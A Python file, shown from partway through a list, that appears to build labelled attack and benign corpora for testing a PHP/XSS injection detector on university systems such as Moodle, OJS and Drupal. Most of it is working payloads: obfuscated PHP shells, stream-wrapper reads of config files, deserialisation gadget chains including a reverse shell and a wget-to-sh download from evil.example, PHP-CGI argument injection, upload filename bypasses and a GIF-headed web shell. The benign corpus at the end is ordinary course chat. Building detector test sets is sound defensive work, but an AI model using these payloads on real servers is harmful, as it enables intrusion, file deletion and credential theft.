    "$x=base64_decode('c3lzdGVt');$x('id');",
    "call_user_func($_GET['cb'],$_GET['arg'])",
    "call_user_func_array('system',['id'])",
    "array_map($_REQUEST['f'],[$_REQUEST['a']])",
    "array_filter(['id'],'system')",
    "$a=['id'];array_walk($a,'passthru');",
    "(new ReflectionFunction('system'))->invoke('id')",
    "$f=$_COOKIE['f'];$f($_COOKIE['c']);",
    "('sys'.'tem')('id')",
    '"\\x73\\x79\\x73\\x74\\x65\\x6d"(\'id\')',
    # bitwise NOT of "system" and "id": no letter reaches the filter (sent as raw bytes)
    "(~\x8c\x86\x8c\x8b\x9a\x92)(~\x96\x9b);",
    # XOR of two printable strings gives "_GET": ${_GET}[_](${_GET}[__])
    '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);',
    "{$_GET['f']($_GET['c'])}",
    "${\"_P\".\"OST\"}['x']($_REQUEST['y'])",
    "$f=implode('',['sy','st','em']);$f('whoami');",
    "$x=str_rot13('flfgrz');$x('id');",
    "$f=hex2bin('73797374656d');$f('id');",
    "$c='assert';$c($_POST['x']);",
    "array_map('ass'.'ert',[$_GET['x']])",
    "$k='passthru';$k('cat /var/www/redcap/database.php');",
    "forward_static_call('system','id')",
    "preg_replace_callback('/.+/',function($m){return system($m[0]);},'id')",
    # the usort shell: ?1[]=x&1[]=system('id')&2=assert
    "usort(...$_GET);",
]

# php-wrappers: stream wrappers handed to include/require, file_get_contents or fopen (Chamilo/ILIAS/OJS LFI)
WRAPPERS: list[Entry] = [
    # Moodle config.php and ILIAS client.ini.php read as base64 so the source is not executed
    "php://filter/convert.base64-encode/resource=config.php",
    "php://filter/read=convert.base64-encode/resource=../../data/myilias/client.ini.php",
    "php://filter/convert.base64-encode/resource=/var/www/html/ojs/config.inc.php",
    "php://filter/string.rot13/resource=index.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/config.php",
    "php://filter/convert.iconv.UTF-8.UTF-16LE|convert.base64-encode/resource=/etc/passwd",
    "php://filter/convert.quoted-printable-encode/resource=/var/www/redcap/database.php",
    # write a shell past a "<?php exit; ?>" prefix: base64-decode drops the prefix's bytes
    "php://filter/write=convert.base64-decode/resource=/var/www/html/s.php",
    "php://filter/resource=http://evil.example/shell.txt",
    # include('php://input') runs the request body
    "PHP://input",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php phpinfo();?>",
    "data://text/plain,<?php system('cat /etc/passwd');?>",
    # expect:// (PECL expect) runs a command
    "expect://id",
    "expect://cat /etc/passwd",
    # phar:// deserialises the archive's metadata (Moodle draft area, OJS submission file, Omeka upload)
    "phar:///var/www/moodledata/temp/backup/evil.jpg/test.txt",
    "phar://../../files/journals/1/articles/5/submission/shell.jpg",
    "phar://./files/original/poster.gif/x",
    # zip:// includes a PHP file from inside an uploaded assignment archive
    "zip:///var/www/chamilo/app/courses/MATH101/upload/assignment.zip#shell.php",
    "zip://../moodledata/temp/x.zip#cmd.php",
    # glob:// lists directories where open_basedir forbids opendir (DirectoryIterator)
    "glob:///var/www/moodledata/*",
    "glob:///home/*/public_html/*.php",
    "compress.zlib:///etc/passwd",
    "compress.zlib://php://input",
    "ssh2.exec://hpcuser:hunter2@login01.cluster.example.edu:22/id",
    "file:///var/www/html/wp-config.php",
]

# php-object-injection: serialized objects and arrays handed to unserialize() (cookies, hidden fields, session
# data, REST bodies); targets are the gadget classes of the PHP libraries each platform bundles
OBJECT: list[Entry] = [
    # Laravel (OJS 3.4 ships Illuminate components; university Laravel portals): PendingBroadcast's
    # destructor calls events->dispatch(event), Faker\Generator's __call maps dispatch to system
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"'
    '\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}',
    # the same chain with S: strings, whose \00 escapes get past a filter looking for NUL bytes
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{S:9:"\\00*\\00events";O:15:"Faker\\Generator":1:{S:13:"\\'
    '00*\\00formatters";a:1:{s:8:"dispatch";s:8:"passthru";}}S:8:"\\00*\\00event";s:8:"uname -a";}',
    # Laravel: Validator::__call runs the extension registered under the empty rule name
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:31:"Illuminate\\Validation\\Valid'
    'ator":1:{s:10:"extensions";a:1:{s:0:"";s:6:"system";}}s:8:"\x00*\x00event";s:22:"cat /var/www/html/.env";}',
    # Laravel: Bus\Dispatcher hands a queued event's connection to its queueResolver
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:25:"Illuminate\\Bus\\Dispatcher":'
    '1:{s:16:"\x00*\x00queueResolver";s:6:"system";}s:8:"\x00*\x00event";O:38:"Illuminate\\Broadcasting\\BroadcastE'
    'vent":1:{s:10:"connection";s:34:"wget -qO- http://evil.example/x|sh";}}',
    # the Laravel chain wrapped in ArrayObject's C: format (a filter that only looks for O:)
    'C:11:"ArrayObject":199:{x:i:0;a:1:{i:0;O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00even'
    'ts";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00eve'
    'nt";s:2:"id";}};m:a:0:{}}',
    # Yii2 (HumHub, many faculty portals), CVE-2020-15148: BatchQueryResult -> Faker -> CreateAction::run
    'O:23:"yii\\db\\BatchQueryResult":1:{s:36:"\x00yii\\db\\BatchQueryResult\x00_dataReader";O:15:"Faker\\Generator'
    '":1:{s:13:"\x00*\x00formatters";a:1:{s:5:"close";a:2:{i:0;O:21:"yii\\rest\\CreateAction":2:{s:11:"checkAccess"'
    ';s:6:"system";s:2:"id";s:2:"id";}i:1;s:3:"run";}}}}',
    # Yii2 with IndexAction: read HumHub's database configuration
    'O:23:"yii\\db\\BatchQueryResult":1:{s:36:"\x00yii\\db\\BatchQueryResult\x00_dataReader";O:15:"Faker\\Generator'
    '":1:{s:13:"\x00*\x00formatters";a:1:{s:5:"close";a:2:{i:0;O:20:"yii\\rest\\IndexAction":2:{s:11:"checkAccess";'
    's:8:"passthru";s:2:"id";s:48:"cat /var/www/humhub/protected/config/dynamic.php";}i:1;s:3:"run";}}}}',
    # Monolog (Composer apps: Omeka S, LimeSurvey plugins): SyslogUdpHandler -> BufferHandler processors
    'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:{s'
    ':10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:15:"cat /'
    'etc/passwd";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit"'
    ';i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
    # Monolog with a reverse shell
    'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:{s'
    ':10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:48:"bash '
    '-c \'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1\'";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initializ'
    'ed";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}'
    '}',
    # Guzzle FnStream: the destructor calls the user-supplied close method (Drupal 8, Moodle's Guzzle)
    'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close";s:7:"ph'
    'pinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
    # the FnStream inside an array (a filter that only checks that the value starts with O:)
    'a:1:{i:0;O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"close'
    '";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}}',
    # Guzzle FileCookieJar: the destructor saves its cookies (one holding PHP) to a .php file in Moodle
    'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:'
    '"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";a:3:{s:7:"Expires";i:1;s:7'
    ':"Discard";b:0;s:5:"Value";s:28:"<?php system($_GET[\'c\']); ?>";}}}s:39:"\x00GuzzleHttp\\Cookie\\CookieJar'
    '\x00strictMode";N;s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:30:"/var/www/html/moodle/pix/s.ph'
    'p";s:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:1;}',
    # TCPDF (bundled in Moodle lib/tcpdf): the destructor unlinks every file named in imagekeys
    'O:5:"TCPDF":1:{s:12:"\x00*\x00imagekeys";a:1:{i:0;s:37:"/var/www/moodledata/filedir/.htaccess";}}',
    # TCPDF: delete Moodle's config.php and the site drops into the installer
    'O:5:"TCPDF":1:{s:12:"\x00*\x00imagekeys";a:1:{i:0;s:26:"/var/www/moodle/config.php";}}',
    # PEAR Archive_Tar (Drupal 7/8, old Moodle PEAR libs): the destructor unlinks _temp_tarname
    'O:11:"Archive_Tar":1:{s:13:"_temp_tarname";s:40:"/var/www/html/sites/default/settings.php";}',
    # O:+ (PHP 7 accepts the sign) gets past /O:\d+:/
    'O:+11:"Archive_Tar":1:{s:13:"_temp_tarname";s:40:"/var/www/html/sites/default/settings.php";}',
    # CVE-2016-7124: a property count larger than the real one skips __wakeup
    'O:11:"Archive_Tar":2:{s:13:"_temp_tarname";s:43:"/var/www/html/sites/default/files/.htaccess";}',
    # session.serialize_handler mismatch (php vs php_serialize): a '|' starts an object in the session
    '|O:11:"Archive_Tar":1:{s:13:"_temp_tarname";s:40:"/var/www/html/sites/default/settings.php";}',
    # SwiftMailer TemporaryFileByteStream: the destructor deletes _path (OJS config.inc.php)
    'O:40:"Swift_ByteStream_TemporaryFileByteStream":1:{s:38:"\x00Swift_ByteStream_FileByteStream\x00_path";s:32:"/'
    'var/www/html/ojs/config.inc.php";}',
    # Symfony Process WindowsPipes (Chamilo 1.11 is a Symfony app): the destructor deletes its files
    'O:44:"Symfony\\Component\\Process\\Pipes\\WindowsPipes":1:{s:51:"\x00Symfony\\Component\\Process\\Pipes\\Windo'
    'wsPipes\x00files";a:1:{i:0;s:45:"/var/www/chamilo/app/config/configuration.php";}}',
    # remember-me cookie of a student portal compared with ==: true equals any password
    'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}',
    # enrolment portal session cookie: serialized flags set to true
    'a:3:{s:7:"user_id";i:1;s:8:"is_admin";b:1;s:5:"token";b:1;}',
    # a serialized user object whose admin flag the portal trusts
    'O:8:"stdClass":2:{s:8:"username";s:5:"admin";s:5:"admin";b:1;}',
    # a custom course-registration app's User class with isAdmin set
    'O:4:"User":2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}',
    # Drupal 8 REST (a university Drupal site), CVE-2019-6340: the whole JSON body of the shortcut entity
    ('{"link": [{"value": "link", "options": "O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"\\u0000GuzzleHttp'
     '\\\\Psr7\\\\FnStream\\u0000methods\\";a:1:{s:5:\\"close\\";a:2:{i:0;O:23:\\"GuzzleHttp\\\\HandlerStack\\":3:{s'
     ':32:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000handler\\";s:2:\\"id\\";s:30:\\"\\u0000GuzzleHttp\\\\HandlerSta'
     'ck\\u0000stack\\";a:1:{i:0;a:1:{i:0;s:6:\\"system\\";}}s:31:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000cached'
     '\\";b:0;}i:1;s:7:\\"resolve\\";}}s:9:\\"_fn_close\\";a:2:{i:0;r:4;i:1;s:7:\\"resolve\\";}}"}], "_links": {"typ'
     'e": {"href": "http://www.example.edu/rest/type/shortcut/default"}}}',
     "json-body", "rs-json-body"),
]

# php-config-directives: PHP ini settings set by the attacker (PHP-CGI arguments, FastCGI PHP_VALUE, an uploaded
# .htaccess or .user.ini, ini_set() through a code injection) to turn inclusion of a URL or the body on
CONFIG: list[Entry] = [
    # PHP-CGI, CVE-2012-1823: a query string without '=' becomes command-line arguments (old campus Apache hosts)
    qs("-d allow_url_include=1 -d auto_prepend_file=php://input"),
    qs("-d safe_mode=Off -d disable_functions=NULL -d open_basedir=none -d auto_prepend_file=php://input -n"),
    qs("-d allow_url_include=On -d auto_prepend_file=http://evil.example/shell.txt"),
    # CVE-2024-4577, PHP-CGI on Windows (XAMPP lab machines): the soft hyphen 0xAD becomes '-' in a CJK code page
    qs("\xadd allow_url_include=1 \xadd auto_prepend_file=php://input"),
    qs("\xadd cgi.force_redirect=0 \xadd disable_functions=\"\" \xadd auto_prepend_file=php://input"),
    # the same directives as form fields and as the lines of an uploaded .user.ini (PHP-FPM reads it per directory)
    kv("auto_prepend_file=php://input"),
    kv("allow_url_include=On&auto_prepend_file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=="),
    "auto_prepend_file=avatar.gif",
    "allow_url_fopen=On\nallow_url_include=On\nauto_prepend_file=http://evil.example/s.txt",
    "auto_append_file=/var/www/moodledata/filedir/3a/7f/3a7f1c2e",
    # .htaccess uploaded into an Omeka / Chamilo upload directory served by Apache with AllowOverride
    'php_value auto_prepend_file "/var/www/chamilo/app/upload/users/1/1/avatar.jpg"',
    "php_flag engine on\nAddType application/x-httpd-php .jpg",
    "<FilesMatch \"\\.jpg$\">SetHandler application/x-httpd-php</FilesMatch>",
    'php_value auto_append_file "php://filter/convert.base64-decode/resource=shell.jpg"',
    "php_value allow_url_include On",
    # PHP-FPM behind nginx, CVE-2019-11043: the PATH_INFO underflow writes PHP_VALUE lines
    "/index.php/PHP_VALUE\nsession.auto_start=1;;;?",
    "/index.php/PHP_VALUE\nauto_prepend_file=a;;;;?",
    "/index.php/PHP_VALUE\ninclude_path=/tmp;;;;;?",
    "/index.php/PHP_VALUE\nerror_log=/tmp/a;;;?",
    # FastCGI request smuggled through an SSRF to php-fpm (gopher to 127.0.0.1:9000): its PHP_VALUE parameter
    "PHP_VALUE: auto_prepend_file = php://input\nPHP_ADMIN_VALUE: allow_url_include = On",
    # ini_set() through a code injection
    "ini_set('allow_url_include','1');include($_GET['u']);",
    "ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');ini_set('open_basedir','/');"
    "echo file_get_contents('/etc/passwd');",
    "ini_set('session.serialize_handler','php');session_start();",
    # LD_PRELOAD past disable_functions: mail() starts sendmail, which loads the attacker's library
    "putenv('LD_PRELOAD=/tmp/evil.so');mail('a@example.edu','','','');",
    "ini_set('error_log','/var/www/html/s.php');error_log('<?php system($_GET[0]); ?>');",
    "ini_restore('disable_functions');ini_restore('open_basedir');",
]

# superglobals: overwriting $_SERVER/$_SESSION/$GLOBALS through register_globals or extract()/parse_str(), and
# code that runs what arrives in a superglobal
SUPERGLOBALS: list[Entry] = [
    # register_globals / extract($_REQUEST) in old Moodle 1.x, ATutor and Claroline: include paths overwritten
    kv("_SERVER[DOCUMENT_ROOT]=http://evil.example/"),
    kv("GLOBALS[CFG][dirroot]=http://evil.example/moodle"),
    kv("GLOBALS[CFG][libdir]=php://filter/resource=http://evil.example/"),
    kv("_SESSION[is_admin]=1"),
    kv("GLOBALS[_SERVER][REMOTE_ADDR]=127.0.0.1"),
    kv("_FILES[userfile][tmp_name]=/etc/passwd&_FILES[userfile][name]=passwd.txt"),
    kv("_SESSION[_user][status]=1&_SESSION[_user][user_id]=1"),
    kv("GLOBALS[_SESSION][USER][id]=2"),
    kv("_COOKIE[PHPSESSID]=attacker&_REQUEST[cmd]=id"),
    kv("_ENV[DB_PASSWORD]=&_SERVER[HTTP_HOST]=evil.example"),
    # code that runs what arrives in a superglobal (web shells and injected one-liners)
    "eval($_REQUEST['x'])",
    "@assert($_COOKIE['c'])",
    "${@eval($_SERVER['HTTP_X'])}",
    "system($_SERVER['HTTP_USER_AGENT'])",
    "passthru(getenv('HTTP_X_CMD'))",
    "print_r($GLOBALS)",
    "var_dump($_SERVER)",
    # REDCap / LimeSurvey store database passwords in the environment of containerised installs
    "echo $_ENV['DB_PASSWORD'];",
    "print_r($_SESSION)",
    "foreach($_FILES as $f)move_uploaded_file($f['tmp_name'],$f['name']);",
    "extract($_POST);$a($b);",
    "parse_str($_SERVER['QUERY_STRING']);eval($c);",
    "import_request_variables('gpc');include($file);",
    "$GLOBALS['_GET']['x']($GLOBALS['_GET']['y'])",
    "$_SESSION['USER']->id=2;$_SESSION['USER']->username='admin';",
    "file_put_contents($_POST['n'],$_POST['d']);",
]

# php-file-upload: names that make an upload run as PHP (assignment submissions, avatars, repository files,
# Chamilo's bigUpload, OJS plugin uploads, Moodle draft files)
UPLOADS: list[Entry] = [
    up("shell.php"),
    up("essay_final.php"),
    up("assignment_submission.phtml"),
    up("thesis.pdf.php"),
    # Apache AddHandler treats any name with .php in it as PHP
    up("avatar.php.jpg"),
    up("cv.php5"),
    up("lecture3_slides.pht"),
    up("dataset.phar"),
    up("poster.php7"),
    up("lab_report.pHp"),
    # NUL byte cuts the name in old PHP move_uploaded_file callers
    up("report.php\x00.pdf"),
    up("report.php%00.pdf"),
    # IIS semicolon and Windows trailing dot, space and NTFS stream
    up("grades.php;.xlsx"),
    up("shell.php."),
    up("shell.php::$DATA"),
    up("notes.php "),
    up(".htaccess"),
    up(".user.ini"),
    up("lab4.php4"),
    up("old.php3"),
    up("index.PhP5"),
    up("photo.jpg.phtml"),
    up("upload.pgif"),
    # traversal in the name: the file lands in a web-served directory (Moodle / Chamilo course folders)
    up("../../../../var/www/html/moodle/shell.php"),
    up("..%2f..%2fmain%2finc%2flib%2fjavascript%2fbigupload%2ffiles%2fs.php"),
    # RFC 5987 name: a front filter that reads only filename= sees nothing
    up("filename*=UTF-8''submission.phtml"),
]

# php-high-risk-function-names: functions that read files and settings, open sockets, write files or escape the
# sandbox, each called the way an injected snippet calls it
HIGH_RISK: list[Entry] = [
    "phpinfo()",
    "highlight_file('/var/www/moodle/config.php')",
    "show_source('config.inc.php')",
    "file_put_contents('/var/www/html/s.php',$_POST['c'])",
    "readfile('/etc/passwd')",
    "file_get_contents('/var/www/redcap/database.php')",
    "unlink('/var/www/moodledata/.htaccess')",
    "chmod('/var/www/html/s.php',0777)",
    "posix_getpwuid(posix_geteuid())",
    "symlink('/','/var/www/html/moodle/root')",
    "dl('/tmp/evil.so')",
    "fsockopen('evil.example',4444)",
    "stream_socket_client('tcp://evil.example:4444')",
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/iam/security-credentials/'))",
    # an obfuscated shell as found in compromised university WordPress sites
    "eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA')))",
    "eval(gzinflate(base64_decode('Sy1LzNFQiQ/wDw6JVq9Qj9W0BgA=')))",
    "print_r(get_defined_vars())",
    "getenv('DB_PASS')",
    "var_export(ini_get_all())",
    "print_r(scandir('/var/www/moodledata/filedir'))",
    # Horde/Roundcube imap_open, CVE-2018-19518: an rsh argument runs a command
    "imap_open('{localhost:143 -oProxyCommand=echo\\tZWNobyAxID4gL3RtcC9wd24=|base64\\t-d|sh}','','')",
    "unserialize($_COOKIE['prefs'])",
    "copy('http://evil.example/s.txt','/var/www/html/s.php')",
    "print_r(glob('/var/www/*/config*.php'))",
    "posix_kill(posix_getppid(),9)",
    "move_uploaded_file($_FILES['f']['tmp_name'],'/var/www/html/s.php')",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT),
    ("xss", "event-handler", EVENT),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JSURI),
    ("xss", "html-injection", HTML),
    ("xss", "svg-mathml", SVG),
    ("xss", "css-expression", CSS),
    ("xss", "template-literal-dom-sink", DOM),
    ("xss", "ie-filter-style", IE),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "angular-vue-template", ANGULAR),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", FUNCTION_CALL),
    ("php", "php-variable-functions", VARFUNC),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT),
    ("php", "php-config-directives", CONFIG),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", UPLOADS),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]
# fixed entries written as `name=value` (or PHP-CGI arguments) go unquoted
RAW_KV_SUBS = {"php-function-call", "php-config-directives", "superglobals", "template-literal-dom-sink"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("form", "query", "rs-query", "param-name", "rs-param-name")
    kv_safe = "=&[]._-:/'*$!(),;{}~@"
    xss_names = ["search", "q", "name", "summary", "returnurl", "title", "message", "feedback", "bio", "lookfor"]
    php_names = ["file", "page", "formula", "template", "lang", "id", "path", "data", "cmd", "module"]
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t\r"

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.xss_names if category == "xss" else self.php_names
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        """PHP payloads written as raw bytes (the NOT-ed function names, the CVE-2024-4577 soft hyphen)."""
        return sub.startswith(("php", "superglobals")) and any("\x80" <= ch <= "\xff" for ch in payload)

    def _raw(self, p: Put) -> str:
        return self.enc(p.v, p.latin, self.kv_safe)   # a raw query string keeps its bytes (0xAD goes as %AD)

    def upload_body(self, filename: str) -> str:
        """What the upload named `filename` carries: the line a .htaccess / .user.ini needs, else a GIF-headed
        web shell (it passes a getimagesize() check)."""
        if filename == ".htaccess":
            return "AddType application/x-httpd-php .jpg\n"
        if filename == ".user.ini":
            return "auto_prepend_file=avatar.jpg\n"
        return "GIF89a;\n<?php system($_REQUEST['c']); ?>\n"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (teachers, researchers, students and campus IT staff in Slack, bios of
# lecturers and researchers, searches for colleagues and course codes, links to course pages and papers, profiles,
# submission and dataset file names, ordinary headers)
CHAT = [
    # web development course (HTML, JavaScript, PHP)
    "Reminder for CS2150: lab 4 is about the DOM. Put your <script> tag at the end of <body> or use defer.",
    "Quiz question 3 draft: What does <img src=\"cat.png\" alt=\"A cat\"> render if cat.png is missing?",
    "For the XSS lecture I'm showing why innerHTML with user input is bad and textContent is fine. Slides by Friday",
    "Can someone check my rubric? 2 marks for escaping output with htmlspecialchars($name, ENT_QUOTES, 'UTF-8')",
    "Students keep writing onclick=\"submitForm()\" inline, I'm going to require addEventListener in the spec",
    "The autograder for assignment 2 just checks that index.php echoes the form values back escaped",
    "Week 6 topic is sessions in PHP: session_start(), $_SESSION['cart'], and why you regenerate the id on login",
    "Reminder: do NOT use eval() in your JavaScript submissions, the linter config flags it and you lose marks",
    "In the PHP lab, $_GET and $_POST are fine for the exercise but we cover prepared statements next week",
    "Has anyone got a good example of a <form method=\"post\" action=\"/submit\"> for the intro HTML worksheet?",
    "The Vue exercise uses {{ message }} interpolation, students confuse it with Mustache from the Moodle course",
    "Marked 40 submissions: most forgot the alt attribute on <img>, a few used <br><br> for spacing instead of CSS",
    "Security module: we discuss why unserialize() on cookie data is dangerous, then show json_decode instead",
    "Tip for the web programming exam: know the difference between include and require in PHP",
    "If your page shows raw <?php tags in the browser, Apache isn't running the PHP module, ask the lab tech",
    "Lecture 9 covers Content-Security-Policy: script-src 'self' and why inline event handlers break under it",
    "AngularJS is deprecated but the legacy course site still uses ng-app, please don't touch it before the audit",
    "In the CSS lecture: position:fixed vs absolute, and z-index stacking contexts. Demo page on the course site",
    "Can the TAs grade the javascript: URL question leniently? The wording was ambiguous",
    "Quick poll for next term: keep jQuery in the intro course or teach fetch() and querySelector only?",
    # Moodle / Canvas / Blackboard admin and teaching
    "Moodle upgrade to 4.3 is scheduled for Saturday 06:00, the site will be in maintenance mode for two hours",
    "Canvas tip: in the rich content editor use the HTML view to paste the <iframe> embed code from Panopto",
    "Our Moodle theme has custom SCSS in Site administration > Appearance > Themes > Boost, please don't edit it live",
    "The gradebook export to CSV dropped the letter grades again, filing a ticket with the LMS team",
    "Blackboard Ultra doesn't render my <table> with colspan properly in the announcement, anyone seen this?",
    "Sakai will be retired in August, course archives are being migrated to Canvas by the e-learning team",
    "Does anyone know where Moodle stores the quiz question bank export? I need the Moodle XML for MATH201",
    "LTI 1.3 registration for the plagiarism tool is done, the deployment id is in the ticket",
    "Turnitin similarity report shows 38% but it's mostly the bibliography, excluded quotes and references",
    "Proctoring vendor says the browser extension needs cookies enabled for the exam domain",
    "The calculated question in quiz 5 uses {a}*{b}+sqrt({c}), the dataset has 20 items, please double check",
    "ILIAS test results are in Repository > Course > Tests > Results, export as Excel",
    "Chamilo course backup finished, 2.3 GB, it's in the admin's shared drive folder",
    "Moodle cron has been failing since Tuesday, error is 'Cannot obtain task lock', restarting the cron container",
    "Canvas API token for the gradebook sync script expires next month, who owns the service account?",
    # library, repositories, research
    "Koha is down for maintenance 7-9 pm, the OPAC will show a notice, circulation desk uses offline mode",
    "EZproxy stanza for the new JSTOR domain added, please test with https://login.ezproxy.example.edu/login?url=",
    "DSpace 7 migration: handles stay the same, the new UI is Angular and the REST API is under /server/api",
    "EPrints deposit for theses closes on the 30th, PDFs must be PDF/A with fonts embedded",
    "Omeka exhibit for the archives project is live, item metadata uses Dublin Core fields",
    "Our OJS journal moved to 3.4, reviewers get the new email template with the {$reviewDueDate} variable",
    "HotCRP deadline for the workshop is extended to May 12 AoE, update the call for papers page",
    "LimeSurvey for the wellbeing study: expressions use {if(q1.NAOK == 'Y', 'yes', 'no')} syntax",
    "REDCap project for the cohort study is in production now, any field change needs a draft mode request",
    "The DOI for our dataset is 10.5281/zenodo.8123456, please cite that rather than the GitHub repo",
    "Paper accepted at CHI! Camera-ready due in two weeks, LaTeX template uses \\documentclass[sigconf]{acmart}",
    "In the LaTeX template, use \\href{https://example.edu/project}{project page} rather than a bare \\url",
    # HPC, notebooks and campus IT
    "Slurm tip: sbatch --job-name=train_resnet --gres=gpu:1 --time=04:00:00 run.sh, and check squeue -u $USER",
    "Open OnDemand Jupyter app now defaults to 8 cores, change it in the form if you need more",
    "JupyterHub will restart at midnight, save your notebooks. The kernel list now includes R 4.3",
    "Your job failed with 'slurmstepd: error: Detected 1 oom_kill event', ask for more memory with --mem=64G",
    "module load python/3.11 then pip install --user, don't install into the system site-packages",
    "The Slurm REST API (slurmrestd) is only reachable from the login nodes, use a JWT from scontrol token",
    "For the XDMoD usage report, filter by PI and resource, the export is CSV",
    "Scratch is purged every 30 days: /scratch/$USER files older than that are deleted, copy results to /project",
    "SAML login to the HPC portal works again, the IdP certificate rollover broke the Shibboleth SP metadata",
    "SimpleSAMLphp on the research wiki needs the new IdP metadata, config/authsources.php has the entity id",
    "Campus WordPress multisite: please don't install plugins yourselves, request them through the web team",
    "Drupal 10 upgrade of the faculty site is done, the old PHP 7.4 containers are gone",
    "If you see 'PHP Fatal error: Allowed memory size of 134217728 bytes exhausted' in Moodle logs, it's the report",
    "phpinfo() is disabled on the shared hosting, ask us if you need to know the PHP version, it's 8.2",
    "Our nginx config for the course site sends Content-Security-Policy: default-src 'self'",
    "Reminder: the MediaWiki for the lab uses {{Template:Infobox instrument}}, don't paste raw <div>s",
    "Someone uploaded lecture.php to the course files, the LMS rejects it, rename it to lecture.php.txt",
    "The research group site runs on Apache with .htaccess rewrites, the redirect rules are in the repo",
    # SQL and shell snippets in course chat
    "Quiz question on SQL joins: SELECT s.name, c.code FROM students s JOIN enrolments e ON e.student_id = s.id",
    "For the databases lab use SELECT * FROM grades WHERE course_id = ? with a prepared statement, not string concat",
    "The shell exercise: find . -name '*.csv' | xargs wc -l, then sort -n",
    "To submit, zip your folder: zip -r assignment3.zip assignment3/ and upload the zip to Moodle",
    "The notebook uses pandas: df[df['grade'] >= 50].groupby('section').size()",
    "In R, use read.csv('survey_results.csv') and then summary(), the codebook is on the project page",
    "Remember to escape the underscore in LaTeX: student\\_id, otherwise you get 'Missing $ inserted'",
    "Bash question for the exam: what does echo $HOME print, and what does echo '$HOME' print?",
    "Config for the grading script is in grader.yaml, timeout: 30 and memory_limit: 512M",
    "The error was 'Warning: include(config.php): Failed to open stream: No such file or directory' in line 3",
    "Error from the autograder: 'Parse error: syntax error, unexpected token \"}\" in submission.php on line 42'",
    # admin, support and student questions
    "Hi, my assignment upload keeps failing with 'The file is too large', it's a 120 MB video",
    "Is the enrolment portal down? I get 'Session expired' every time I click Register",
    "Can I get an extension on essay 2? I was ill, I have a doctor's note",
    "Where do I find the grading rubric for the capstone project? The link on the course page is broken",
    "Student asked why their quiz answer <b>bold</b> showed up as text, the question type is plain text only",
    "Exam timetable is out, clashes need to be reported to the registry by Friday",
    "The password reset email for the SIS goes to spam for gmail users, IT is on it",
